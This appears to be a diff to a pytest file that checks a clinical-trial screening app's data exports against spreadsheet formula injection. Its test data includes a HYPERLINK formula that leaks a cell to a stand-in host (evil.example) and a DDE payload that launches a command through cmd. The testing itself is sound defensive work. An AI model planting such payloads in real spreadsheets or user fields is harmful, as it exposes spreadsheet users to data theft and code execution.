@@ -16,6 +16,7 @@ from conftest import make_user
 from screening import exports
 from screening.models import DataExport
 from trials import roles
+from trials.services import criteria_version_create_amendment
 
 INJECTIONS = [
     '=HYPERLINK("http://evil.example/?leak="&A1,"Open chart")',
@@ -47,11 +48,10 @@ def assert_no_cell_is_a_formula_or_starts_like_one(cells):
 
 
 @pytest.fixture
-def hostile(screening_for, django_user_model, active_version, coordinator):
+def hostile(screening_for, django_user_model, active_version, coordinator, publish):
     """A screening whose every user-typed text that reaches an export is a formula: the candidate's record number,
-    the coordinator's username and the criteria version's label."""
-    active_version.label = INJECTIONS[0]
-    active_version.save(update_fields=["label"])
+    the coordinator's username and the criteria version's label (an amendment published under that label)."""
+    publish(criteria_version_create_amendment(source=active_version, label=INJECTIONS[0]))
     typist = make_user(django_user_model, "=cmd|' /C calc'!A0", roles.COORDINATOR)
     screening = screening_for(mrn=MRN_INJECTION, user=typist)
     return screening
